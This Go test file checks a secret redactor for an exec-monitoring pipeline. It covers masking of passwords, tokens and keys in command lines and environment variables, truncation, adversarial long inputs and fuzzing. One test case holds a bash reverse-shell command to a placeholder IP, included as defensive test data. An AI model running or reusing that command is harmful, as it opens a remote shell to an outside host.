package pipeline

import (
	"os"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/sentineld/sentineld/internal/event"
)

func newRedactor(t testing.TB, o RedactOptions) *Redactor {
	t.Helper()
	r, err := NewRedactor(o)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// argv is arguments as the kernel keeps them.
func argv(args ...string) string { return strings.Join(args, "\x00") + "\x00" }

var secretMarks = regexp.MustCompile("«[^»]*»")

// line is a line of testdata/redact.txt.
type line struct {
	number       int
	text         string
	given, wants string // Args
	secrets      []string
}

func lines(t testing.TB) (all []line) {
	t.Helper()
	data, err := os.ReadFile("testdata/redact.txt")
	if err != nil {
		t.Fatal(err)
	}
	args := strings.NewReplacer(" ", "\x00", "␣", " ", "⏎", "\n", `\xff`, "\xff", `\xfe`, "\xfe")
	for i, s := range strings.Split(string(data), "\n") {
		if s == "" || s[0] == '#' {
			continue
		}
		l := line{number: i + 1, text: s}
		l.given = args.Replace(strings.NewReplacer("«", "", "»", "").Replace(s)) + "\x00"
		l.wants = args.Replace(secretMarks.ReplaceAllString(s, marker)) + "\x00"
		for _, m := range secretMarks.FindAllString(s, -1) {
			l.secrets = append(l.secrets, args.Replace(strings.Trim(m, "«»")))
		}
		all = append(all, l)
	}
	return all
}

func TestRedactCommandLines(t *testing.T) {
	r := newRedactor(t, RedactOptions{})
	all := lines(t)
	secrets := 0
	for _, l := range all {
		x := event.Exec{Args: l.given, ArgsLen: uint64(len(l.given))}
		r.Exec(&x)
		if x.Args != l.wants {
			t.Errorf("line %d:\nof   %q\ngot  %q\nwant %q", l.number, l.given, x.Args, l.wants)
		}
		if x.Redacted != (len(l.secrets) > 0) {
			t.Errorf("line %d: %s: redacted is %v", l.number, l.text, x.Redacted)
		}
		if x.ArgsLen != uint64(len(l.given)) || x.Truncated {
			t.Errorf("line %d: the length of what was executed changed to %d, %v", l.number, x.ArgsLen, x.Truncated)
		}
		again := event.Exec{Args: x.Args}
		if r.Exec(&again); again.Args != x.Args || again.Redacted {
			t.Errorf("line %d: twice: %q", l.number, again.Args)
		}
		if len(l.secrets) > 0 {
			secrets++
		}
	}
	if secrets < 520 || len(all)-secrets < 200 {
		t.Errorf("%d lines with a secret and %d without: some are not read", secrets, len(all)-secrets)
	}
}

// TestRedactByExecutable: argv[0] is the process's to choose.
func TestRedactByExecutable(t *testing.T) {
	r := newRedactor(t, RedactOptions{})
	for _, test := range []struct{ exe, args, want string }{
		{"/usr/bin/mysql", argv("innocent", "-phunter2"), argv("innocent", "-p[redacted]")},
		{"/usr/bin/busybox", argv("sh", "-c", "mysql -phunter2"), argv("sh", "-c", "mysql -p[redacted]")},
		{"/usr/bin/bash", argv("-bash", "-c", "mysql -phunter2"), argv("-bash", "-c", "mysql -p[redacted]")},
		{"/usr/bin/mkdir", argv("mkdir", "-phunter2"), argv("mkdir", "-phunter2")},
		// What argv[0] says does not matter where the executable is known.
		{"/usr/bin/bash", argv("mkpasswd", "-c", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"), argv("mkpasswd", "-c", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1")},
		{"/usr/bin/python3.11", argv("mkpasswd", "-c", "import os"), argv("mkpasswd", "-c", "import os")},
		{"/usr/bin/busybox", argv("mkpasswd", "hunter2"), argv("mkpasswd", "[redacted]")},
		{"/usr/bin/.mysql-wrapped", argv("mysql", "-phunter2"), argv("mysql", "-p[redacted]")},
		{"/opt/unlisted", argv("mysql -phunter2 db"), argv("mysql -p[redacted] db")}, // a title
		// The quotes of a secret in pieces stay pairs.
		{"/bin/sh", argv("sh", "-c", `mysql -p'a'"b"c\ d db`), argv("sh", "-c", `mysql -p'[redacted]'"" db`)},
		{"/bin/sh", argv("sh", "-c", `mysql "-pa"b db`), argv("sh", "-c", `mysql "-p[redacted]" db`)},
		{"/bin/sh", argv("sh", "-c", `mysql -p\$x db`), argv("sh", "-c", `mysql -p[redacted] db`)},
		{"/bin/sh", argv("sh", "-c", `mysql -p$'a\'b' db`), argv("sh", "-c", `mysql -p$'[redacted]' db`)},
		{"/bin/sh", argv("sh", "-c", `sh -c "mysql -p'a'\"b\" db"`), argv("sh", "-c", `sh -c "mysql -p'[redacted]'\"\" db"`)},
		{"/usr/bin/mysql", "", ""},
		{"/usr/bin/mysql", "\x00", "\x00"},
		{"/usr/bin/mysql", "\x00-phunter2\x00", "\x00-p[redacted]\x00"},
		{"", argv("tool", "", "--password", "", "x", ""), argv("tool", "", "--password", "", "x", "")},
		{"", argv("tool", "--password", "hunter2", "", ""), argv("tool", "--password", "[redacted]", "", "")},
	} {
		x := event.Exec{Exe: test.exe, Args: test.args}
		if r.Exec(&x); x.Args != test.want {
			t.Errorf("%s %q: %q", test.exe, test.args, x.Args)
		}
	}
}

// TestRedactByWhatWasAskedFor: where the path of the executable is not known, the
// one that was asked for names the program.
func TestRedactByWhatWasAskedFor(t *testing.T) {
	r := newRedactor(t, RedactOptions{})
	for _, test := range []struct{ exe, invoked, want string }{
		{"", "./mysql", argv("innocent", "-p[redacted]")},
		{"/bin/innocent", "./mysql", argv("innocent", "-phunter2")},
		{"", "", argv("innocent", "-phunter2")},
	} {
		x := event.Exec{Exe: test.exe, Invoked: test.invoked, Args: argv("innocent", "-phunter2")}
		if r.Exec(&x); x.Args != test.want {
			t.Errorf("%q, %q: %q", test.exe, test.invoked, x.Args)
		}
	}
}

// TestRedactWhereItWasCut: the end of a secret may be missing.
func TestRedactWhereItWasCut(t *testing.T) {
	r := newRedactor(t, RedactOptions{})
	for _, test := range []struct{ args, want string }{
		{"tool\x00--password\x00hunt", "tool\x00--password\x00[redacted]"},
		{"tool\x00--password=hunt", "tool\x00--password=[redacted]"},
		{"tool\x00--password\x00hunt\x00", "tool\x00--password\x00[redacted]\x00"},
		{"tool\x00http://ann:hunt", "tool\x00http://ann:[redacted]"},
		{"tool\x00http://ann:8080", "tool\x00http://ann:8080"},
		{"tool\x00ghp_0123", "tool\x00[redacted]"},
		{"tool\x00ghp_0123\x00x", "tool\x00ghp_0123\x00x"},
		{"tool\x00eyJhbGciOiJIUzI1NiJ9.eyJz", "tool\x00[redacted]"},
		{"tool\x00-----BEGIN PRIVATE KEY-----\nMII", "tool\x00-----BEGIN PRIVATE KEY-----[redacted]"},
		{"sh\x00-c\x00mysql -p'hun ter", "sh\x00-c\x00mysql -p'[redacted]"},
		{"tool\x00{\"password\":\"hun ter", "tool\x00{\"password\":\"[redacted]"},
		{"mysql\x00-p", "mysql\x00-p"},
		{"tool\x00--password", "tool\x00--password"},
	} {
		x := event.Exec{Args: test.args, Truncated: true, ArgsLen: 1000}
		if r.Exec(&x); x.Args != test.want || !x.Truncated || x.ArgsLen != 1000 {
			t.Errorf("%q:\n got %q, %v, %d\nwant %q", test.args, x.Args, x.Truncated, x.ArgsLen, test.want)
		}
	}
}

func TestRedactEnvironment(t *testing.T) {
	r := newRedactor(t, RedactOptions{Env: []string{"MY_CREDENTIAL", "corp_*", "*_blob"}})
	for name, value := range map[string]string{
		"PASSWORD": "a b=c", "DB_PASSWORD": "x", "PGPASSWORD": "x", "MYSQL_PWD": "x", "SSHPASS": "x", "AWS_SECRET_ACCESS_KEY": "a/b",
		"AWS_SESSION_TOKEN": "x", "GITHUB_TOKEN": "x", "API_KEY": "x", "STRIPE_APIKEY": "x", "PRIVATE_KEY": "MII", "DBPASS": "x", "PWD": "hunter2", "B2_APPLICATION_KEY": "x", "REDISCLI_AUTH": "x",
		"RESTIC_PASSWORD2": "x", "dbPassword": "x", "CLIENT_SECRET": "x", "MY_CREDENTIAL": "x", "CORP_A": "x", "a_BLOB": "x",
	} {
		x := event.Exec{Env: "A=b\x00" + name + "=" + value + "\x00LANG=C\x00"}
		if r.Exec(&x); x.Env != "A=b\x00"+name+"=[redacted]\x00LANG=C\x00" || !x.Redacted {
			t.Errorf("%s=%s: %q", name, value, x.Env)
		}
	}
	const harmlessOnes = "PATH=/bin\x00PWD=/root\x00OLDPWD=/\x00PASSWORD_FILE=/run/x\x00SSH_AUTH_SOCK=/run/y\x00AWS_ACCESS_KEY_ID=AKIA\x00KEY=x\x00" +
		"LESSKEY=x\x00PWD=C:\\x\x00BYPASS=x\x00SSH_ASKPASS=/usr/bin/x\x00NEXTTOKEN=x\x00TOKENIZERS_PARALLELISM=true\x00ALLOW_EMPTY_PASSWORD=yes\x00TOKEN=\x00EMPTY\x00=x\x00\x00"
	x := event.Exec{Env: harmlessOnes}
	if r.Exec(&x); x.Env != harmlessOnes || x.Redacted {
		t.Errorf("%q", x.Env)
	}
	x = event.Exec{Env: "DATABASE_URL=postgres://ann:hunter2@db/x\x00", Args: argv("tool", "my_credential=y", "--db-blob", "z")}
	if r.Exec(&x); x.Env != "DATABASE_URL=postgres://ann:[redacted]@db/x\x00" || x.Args != argv("tool", "my_credential=[redacted]", "--db-blob", "z") {
		t.Errorf("%q, %q", x.Env, x.Args)
	}
}

func TestRedactOptions(t *testing.T) {
	r := newRedactor(t, RedactOptions{
		Flags: []string{"my-cred", "PIN_code"}, Programs: []string{"MyTool:-k", "mytool:--pin", "mytool:/x:", "curl:--my",
			"Wintool.exe:-q", "python3:-k", "mysql8.0:-k", "busybox:--my"},
	})
	for _, test := range []struct{ given, want string }{
		{argv("tool", "--my-cred", "x"), argv("tool", "--my-cred", "[redacted]")},
		{argv("tool", "-MY_CRED=x"), argv("tool", "-MY_CRED=[redacted]")},
		{argv("tool", "--pin-code=x"), argv("tool", "--pin-code=[redacted]")},
		{argv("tool", "--my-cred-file", "x"), argv("tool", "--my-cred-file", "x")},
		{argv("mytool", "-k", "x", "-ky", "--pin", "12", "--pin=3", "/X:4"),
			argv("mytool", "-k", "[redacted]", "-k[redacted]", "--pin", "[redacted]", "--pin=[redacted]", "/X:[redacted]")},
		{argv("sudo", "/opt/mytool", "-k", "x"), argv("sudo", "/opt/mytool", "-k", "[redacted]")},
		{argv("tool", "-k", "x", "--pin", "1"), argv("tool", "-k", "x", "--pin", "1")},
		{argv("curl", "--my", "x", "-u", "a:b"), argv("curl", "--my", "[redacted]", "-u", "a:[redacted]")},
		{argv("docker", "--my-cred", "x", "ps"), argv("docker", "--my-cred", "[redacted]", "ps")},
		{argv("docker", "login", "--my-cred", "x", "ps"), argv("docker", "login", "--my-cred", "[redacted]", "ps")},
		{argv("wintool", "-q", "x"), argv("wintool", "-q", "[redacted]")},
		{argv("wintool.exe", "-q", "x"), argv("wintool.exe", "-q", "[redacted]")},
		{argv("python3", "-k", "x", "-m", "twine", "upload", "-p", "y"), argv("python3", "-k", "[redacted]", "-m", "twine", "upload", "-p", "[redacted]")},
		{argv("mysql8.0", "-k", "x", "-pz"), argv("mysql8.0", "-k", "[redacted]", "-p[redacted]")},
		{argv("mysql", "-k", "x", "-pz"), argv("mysql", "-k", "x", "-p[redacted]")},
	} {
		x := event.Exec{Args: test.given}
		if r.Exec(&x); x.Args != test.want {
			t.Errorf("%q:\n got %q\nwant %q", test.given, x.Args, test.want)
		}
	}
	plain := newRedactor(t, RedactOptions{})
	x := event.Exec{Args: argv("curl", "--my", "x")}
	if plain.Exec(&x); x.Redacted {
		t.Error("an option of one redactor is every one's")
	}
	for _, o := range []RedactOptions{
		{Flags: []string{""}}, {Flags: []string{"--x"}}, {Flags: []string{"x"}}, {Flags: []string{"a b"}}, {Flags: []string{strings.Repeat("x", 65)}},
		{Env: []string{""}}, {Env: []string{"*"}}, {Env: []string{"**"}}, {Env: []string{"A*B"}}, {Env: []string{"A=B"}},
		{Programs: []string{"mytool"}}, {Programs: []string{":-p"}}, {Programs: []string{"mytool:"}}, {Programs: []string{"mytool:p"}},
		{Programs: []string{"/bin/mytool:-p"}}, {Programs: []string{"mytool:-"}}, {Programs: []string{"mytool:--"}}, {Programs: []string{"mytool:--a=b"}},
	} {
		if _, err := NewRedactor(o); err == nil {
			t.Errorf("%+v is taken", o)
		}
	}
}

// pieces are what a long argument of a bad will is made of.
var pieces = []string{
	"=", "a=", "password=x,", "://", "http://a:b", "http://a:b@", "@", "\"", "\"a\":", "\"password\":", "'", "\\", "$(", "`", "sh -c '", "sudo ",
	"eyJ", "eyJaaaaaaaaaaaa.eyJ", "ghp_", "-----BEGIN ", "-----BEGIN PRIVATE KEY-----", "password: ", "Authorization: Bearer ", "--password ", "a ", ";", ",a",
	"eyJ-", "eyJaaaaaaaaaaaa.", "\\\"x-pwd:a\n", "\\\"pwd\\\":\\\"a\\\",", "x-pwd: '\\'\n", "password=\"\\\" ", "-----BEGIN PRIVATE KEY-----\na: b\nMII ",
	"\"$(", "$(a) ", "<<a ", "<<a\n", "<(", "#", "a #", "`a` ", "\"`", "((", "$((", "'$(", "<<a\nb\n",
	"password '", "password: '", "password: a", "password: \\'", "by \\'", "<password>", "<password>a</", "a_command=", "sk-", "https://hooks.slack.com/services/", "glrt-", "hf_", "by 'a' ", "a_command='",
	"https://api.telegram.org/bot1:", "alter user a identified by ", "a = '", "password for a = 'a", "<<a\n' by a\na\n", "Authorization: ", "X-Api-Key: Bearer ",
}

// long is an argument of that size for a program, as they read it in different ways.
func long(program, piece string, size int) string {
	return program + "\x00" + strings.Repeat(piece, size/len(piece)) + "\x00"
}

var readers = []string{"tool", "sh\x00-c", "ssh\x00h", "python3\x00-c"}

// TestRedactIsLinear: no long argument of a bad will holds the event path up. What
// takes 100 ms here would take minutes if it took the square of its length; how much
// it takes is for BenchmarkRedactLong to say.
func TestRedactIsLinear(t *testing.T) {
	const hung = 20 * time.Second
	size := 4 << 20
	if testing.Short() {
		size = 1 << 20
	}
	r := newRedactor(t, RedactOptions{})
	for _, piece := range pieces {
		for _, program := range readers {
			done := make(chan struct{})
			go func() {
				defer close(done)
				r.Exec(&event.Exec{Args: long(program, piece, size)})
			}()
			select {
			case <-done:
			case <-time.After(hung):
				t.Fatalf("%q with %d MiB of %q is not done after %v", program, size>>20, piece, hung)
			}
		}
	}
}

// BenchmarkRedactLong: bytes per second of what is longest in this test, at two
// lengths that should not differ.
func BenchmarkRedactLong(b *testing.B) {
	r := newRedactor(b, RedactOptions{})
	for _, size := range []int{32 << 10, 128 << 10} {
		b.Run(strconv.Itoa(size>>10)+" KiB", func(b *testing.B) {
			b.SetBytes(int64(size * len(pieces) * len(readers)))
			for b.Loop() {
				for _, piece := range pieces {
					for _, program := range readers {
						r.Exec(&event.Exec{Args: long(program, piece, size)})
					}
				}
			}
		})
	}
}

func FuzzRedact(f *testing.F) {
	for _, l := range lines(f) {
		f.Add(l.given, "", "A=b\x00TOKEN=x\x00", false)
	}
	f.Add("mAriAdB -p2", "", "", false)
	for _, v := range strings.Fields(secretVariables + harmlessVariables) {
		f.Add("tool\x00"+v+"\x00", "", v+"\x00", false)
	}
	f.Add("AuthoriZAtion:0\" ", "", "", false)
	f.Add("sh\x00-c\x00mysql -p'a'\"b\"c\\", "/bin/sh", "X=http://a:b@c\x00", true)
	r := newRedactor(f, RedactOptions{Programs: []string{"mytool:-k"}})
	custom := newRedactor(f, RedactOptions{Flags: []string{"never-seen"}})
	f.Fuzz(func(t *testing.T, args, exe, env string, truncated bool) {
		if len(args)+len(env) > 64<<10 {
			t.Skip("the kernel's limit")
		}
		x := event.Exec{Args: args, Exe: exe, Env: env, Truncated: truncated, ArgsLen: 12345}
		r.Exec(&x)
		if strings.Count(x.Args, "\x00") != strings.Count(args, "\x00") || strings.Count(x.Env, "\x00") != strings.Count(env, "\x00") {
			t.Errorf("%q became %q, %q became %q", args, x.Args, env, x.Env)
		}
		if x.Redacted != (x.Args != args || x.Env != env) || x.ArgsLen != 12345 || x.Truncated != truncated || x.Exe != exe {
			t.Errorf("%q: %+v", args, x)
		}
		for _, pair := range [][2]string{{args, x.Args}, {env, x.Env}} {
			if !differsInMarkers(pair[0], pair[1]) {
				t.Errorf("%q became %q", pair[0], pair[1])
			}
		}
		again := x
		if r.Exec(&again); again.Args != x.Args || again.Env != x.Env {
			t.Errorf("of %q\nonce  %q\ntwice %q\nenv once %q twice %q", args, x.Args, again.Args, x.Env, again.Env)
		}
		// Without the prefilter the result is the same.
		all := event.Exec{Args: args, Exe: exe, Env: env, Truncated: truncated}
		if custom.Exec(&all); all.Args != x.Args {
			t.Errorf("the prefilter overlooks %q: %q", args, all.Args)
		}
	})
}

// differsInMarkers tells whether after is before with pieces replaced or taken
// away: what is between the markers stands in before, in this order. Quotes may be
// all that is left of a piece.
func differsInMarkers(before, after string) bool {
	pieces := strings.Split(after, marker)
	if len(pieces) == 1 {
		return before == after
	}
	rest, ok := strings.CutPrefix(before, pieces[0])
	if !ok {
		return false
	}
	for _, piece := range pieces[1:] {
		for i := range len(piece) {
			at := strings.IndexByte(rest, piece[i])
			if at < 0 {
				return false
			}
			rest = rest[at+1:]
		}
	}
	return true
}

func BenchmarkRedact(b *testing.B) {
	r := newRedactor(b, RedactOptions{})
	for _, bench := range []struct{ name, exe, args string }{
		{"ls", "/usr/bin/ls", argv("ls", "--color=auto", "-la", "/var/log/nginx")},
		{"systemctl", "/usr/bin/systemctl", argv("systemctl", "--no-pager", "show", "nginx.service", "--property=ActiveState,SubState")},
		{"make", "/usr/bin/make", argv("make", "-j8", "-C", "/build/linux", "O=out", "modules")},
		{"sh", "/usr/bin/dash", argv("sh", "-c", "ls -l /etc | wc -l")},
		{"sudo", "/usr/bin/sudo", argv("sudo", "-u", "www-data", "systemctl", "restart", "php-fpm")},
		{"docker", "/usr/bin/docker", argv("docker", "run", "-d", "--name", "web", "-p", "8080:80", "-v", "/srv:/srv:ro", "nginx:1.27")},
		{"gcc", "/usr/lib/gcc/x86_64-linux-gnu/14/cc1", argv(strings.Fields("cc1 -quiet -I . -I include -imultiarch x86_64-linux-gnu -D_FORTIFY_SOURCE=2 -D NDEBUG main.c -O2 -Wall -Wextra -fstack-protector-strong -o /tmp/ccAbCdEf.s")...)},
		{"java-2KiB", "/usr/bin/java", argv("java", "-cp", strings.Repeat("/opt/app/lib/library-1.2.3.jar:", 66), "com.example.Main")},
		{"secret", "/usr/bin/tool", argv("tool", "--user", "ann", "--password", "hunter2")},
	} {
		b.Run(bench.name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(bench.args)))
			var x event.Exec
			for b.Loop() {
				x = event.Exec{Exe: bench.exe, Args: bench.args}
				r.Exec(&x)
			}
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/float64(len(bench.args)), "ns/byte")
		})
	}
}
